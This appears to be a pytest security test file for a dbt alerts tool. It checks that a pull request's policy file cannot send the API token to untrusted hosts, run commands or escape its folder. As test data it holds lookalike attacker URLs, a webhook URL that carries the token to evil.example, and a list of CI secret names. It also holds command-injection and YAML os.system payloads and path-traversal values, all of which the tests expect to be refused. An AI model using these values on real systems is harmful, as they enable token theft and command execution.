"""A policy file is untrusted until it is merged: what a pull request may write, and what becomes of it."""

from __future__ import annotations

import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.scenarios.policies_lab import HEAD, tells
from tests.trust.trust_lab import CANARIES, WatchedPlace

pytestmark = pytest.mark.slow

HOSTS = [
    "https://evil.example",
    "http://evil.example",
    "http://ab123.us1.dbt.com.evil.example",
    "https://ab123.us1.dbt.com.evil.example",
    "https://ab123.us1.dbt.com@127.0.0.1:PORT",
    "http://ab123.us1.dbt.com@127.0.0.1:PORT",
    "http://127.0.0.1:PORT@evil.example",
    "https://ab123.us1.dbt.com:443@evil.example",
    "https://evil.example#.dbt.com",
    "https://evil.example?.dbt.com",
    "https://evil.example\\\\.dbt.com",
    "https://evil.example/.dbt.com",
    "https://evildbt.com",
    "https://dbt.com.",
    "https://xdbt.com",
    "https://dbt\\u3002com.evil.example",
    "https://ab123.us1.dbt.com:8443",
    "http://ab123.us1.dbt.com",
    "https://[::ffff:203.0.113.7]",
    "https://2130706433",
    "//evil.example",
    "ftp://ab123.us1.dbt.com",
    "https://evil.example\\n.dbt.com",
]


def test_the_token_goes_nowhere_else(place: WatchedPlace) -> None:
    port = place.sandbox.authority.rpartition(":")[2]
    hosts = {host: f'host: "{host.replace("PORT", port)}"' for host in HOSTS}
    ends = place.run_each(
        "plan", {h: tells("maria").replace("host: $DBT_CLOUD_HOST", text) for h, text in hosts.items()}
    )
    for host, done in ends.items():
        assert done.code in {3, 4}, f"{host} is wrong (3) or not trusted (4), and the token stays\n{done}"
    _nothing_was_called(place)
    assert place.leaks(*ends.values()) == []


def _nothing_was_called(place: WatchedPlace) -> None:
    watched = place.watched()
    assert watched.of("connect") == [], f"nothing may be called: {watched.of('connect')}"
    assert watched.of("resolve") == [], f"not even a name may be looked up: {watched.of('resolve')}"
    programs = [program for program in watched.of("program") if program != ["git", "rev-parse", "HEAD"]]
    assert not programs, f"no program may be started: {programs}"


def test_a_policy_cannot_make_a_host_trusted_but_the_operator_can(place: WatchedPlace) -> None:
    place.policy(tells("maria").replace("host: $DBT_CLOUD_HOST", 'host: "https://evil.example"'))
    refused = place.run("plan")
    assert refused.code == 4, refused
    assert "DBT_ALERTS_TRUSTED_HOSTS" in refused.err, f"the refusal names the way out\n{refused}"


@contextmanager
def _receiver() -> Generator[tuple[int, list[str]]]:
    """Yield a port and the Authorization headers that arrived there."""
    seen: list[str] = []

    class Receiver(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Authorization", ""))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the standard library's name

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server.server_port, seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_not_followed_with_the_token(place: WatchedPlace, status: int) -> None:
    place.policy(tells("maria"))
    with _receiver() as (port, seen):
        headers = {"Location": f"http://127.0.0.1:{port}/api/v2/accounts/1/jobs/"}
        place.sandbox.control.add_fault(path="/api/*", status=status, headers=headers)
        done = place.run("plan")
    assert done.code == 1, done
    assert "redirect" in done.err, done
    assert seen == [], f"the redirect's target was called, with {seen}"
    assert place.elsewhere() == []


def test_a_proxy_of_the_environment_does_not_get_the_token_on_loopback(place: WatchedPlace) -> None:
    place.policy(tells("maria"))
    with _receiver() as (port, seen):
        proxy = f"http://127.0.0.1:{port}"
        done = place.run(
            "plan", environ={"HTTP_PROXY": proxy, "http_proxy": proxy, "ALL_PROXY": proxy, "NO_PROXY": None}
        )
    assert done.code == 0, done
    assert seen == [], "a call to loopback went through a proxy"


FORBIDDEN = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "AWS_SECRET_ACCESS_KEY"]
RELAY = "relay: {url: 'https://alerts.acme.example/dbt', secret_sink: {store: file, path: s}}\n"


def _channel(name: str) -> str:
    return HEAD.replace("channels:\n", f"{RELAY}channels:\n  x: {{type: slack, url: ${name}}}\n")


def _webhook(more: str = "jobs: all", *, url: str = "https://a.example") -> str:
    return f'webhooks:\n  - {{name: x, url: "{url}", on: [completed], {more}}}\n'


PLACES: dict[str, Callable[[str], str]] = {
    "the token": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", f"${name}"),
    "the token, in braces": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", '"${' + name + '}"'),
    "the host": lambda name: tells("maria").replace("$DBT_CLOUD_HOST", f"${name}"),
    "a channel": _channel,
}


def test_references_to_the_runners_own_secrets_are_refused(place: WatchedPlace) -> None:
    cases = {f"{name} as {where}": (name, text(name)) for name in FORBIDDEN for where, text in PLACES.items()}
    ends = place.run_each("plan", {case: text for case, (_, text) in cases.items()})
    for case, done in ends.items():
        assert done.code == 3, f"{case} must be refused with its place\n{done}"
        assert cases[case][0] in done.err, f"{case}: the message names it\n{done}"
        assert "policy.yml:" in done.err, f"{case}: and says where\n{done}"
    _nothing_was_called(place)
    assert place.leaks(*ends.values()) == []


UNFIT = {
    "a reference in plain text": _webhook(url="$TICKET_URL"),
    "a reference in a part of a text": _webhook(url="https://evil.example/?t=$DBT_CLOUD_TOKEN"),
    "a reference in a description": _webhook("description: $DBT_CLOUD_TOKEN, jobs: all"),
}


def test_a_reference_outside_a_secret_field_carries_nothing_out(place: WatchedPlace) -> None:
    base = tells("maria").replace("ledger:", "scope: {all_jobs_webhooks: true}\nledger:")
    ends = place.run_each("plan", {case: base + text for case, text in UNFIT.items()})
    for case, done in ends.items():
        assert done.code in {0, 3}, f"{case}\n{done}"
    leaks = [leak for leak in place.leaks(*ends.values()) if "policy.yml" not in leak]
    assert not leaks, f"a reference was opened: {leaks}"


COMMANDS = {
    "in the sink": "secret_sink: {store: command, command: 'touch pwned'}",
    "as the sink's path": "secret_sink: {store: command, path: 'touch pwned'}",
    "as a YAML tag": "secret_sink: !!python/object/apply:os.system ['touch pwned']",
    "in the sink's kind": "secret_sink: {store: 'command; touch pwned'}",
    "a program beside it": "secret_sink: {store: command, program: [touch, pwned]}",
}


@pytest.mark.parametrize("command", ["plan", "apply"])
def test_a_policy_names_no_program(place: WatchedPlace, command: str) -> None:
    policies = {
        case: tells("maria") + _webhook(f"jobs: {{project: Finance}}, {sink}") for case, sink in COMMANDS.items()
    }
    for case, done in place.run_each(command, policies).items():
        assert done.code in {3, 4}, f"{case}\n{done}"
    _nothing_was_called(place)
    assert not list(place.folder.rglob("pwned")), "a policy's command ran"


def test_the_operators_program_runs_in_apply_only(place: WatchedPlace) -> None:
    place.policy(tells("maria") + _webhook("jobs: {project: Finance}, secret_sink: {store: command}"))
    store = place.folder / "store.sh"
    store.write_text(
        '#!/bin/sh\nmkdir -p secrets\n[ "$1" = probe ] && exit 0\ncat > secrets/kept\necho stored\n', encoding="utf-8"
    )
    store.chmod(0o700)
    environ = {"DBT_ALERTS_SINK_COMMAND": str(store)}
    planned = place.run("plan", environ=environ)
    assert planned.code == 0, planned
    assert [str(store)] not in place.watched().of("program"), "plan ran the operator's program"
    done = place.run("apply", environ=environ)
    assert done.code == 0, done
    secret = next(row["hmac_secret"] for row in place.sandbox.control.rows("webhooks") if row["name"] == "x")
    assert (place.folder / "secrets" / "kept").read_text(encoding="utf-8") == secret
    assert place.leaks(planned, done, more={"the HMAC secret": secret}) == []


PATHS = ["../outside.secret", "/outside-of-everything.secret", "policies/policy.yml", "a/../../outside.secret"]


@pytest.mark.parametrize("path", PATHS)
def test_a_sink_does_not_leave_the_folder_or_overwrite_what_is_there(place: WatchedPlace, path: str) -> None:
    sink = f'secret_sink: {{store: file, path: "{path}"}}'
    place.policy(tells("maria") + _webhook(f"jobs: {{project: Finance}}, {sink}"))
    text = (place.folder / "policies" / "policy.yml").read_text(encoding="utf-8")
    done = place.run("apply")
    assert done.code in {3, 4}, done
    assert place.sandbox.writes() == [], "the sink is judged before the first write"
    assert (place.folder / "policies" / "policy.yml").read_text(encoding="utf-8") == text
    assert not (place.folder.parent / "outside.secret").exists()


def test_in_ci_a_ledger_that_would_vanish_is_refused_before_anything(place: WatchedPlace) -> None:
    place.policy(tells("maria"))
    done = place.run("apply", environ={"CI": "true"})
    assert done.code == 4, done
    assert place.sandbox.writes() == [], done
    kept = place.run("apply", environ={"CI": "true", "DBT_ALERTS_DURABLE": str(place.folder / ".dbt-alerts")})
    assert kept.code == 0, kept


def test_canaries_are_what_the_tests_believe() -> None:
    assert len(set(CANARIES.values())) == len(CANARIES)
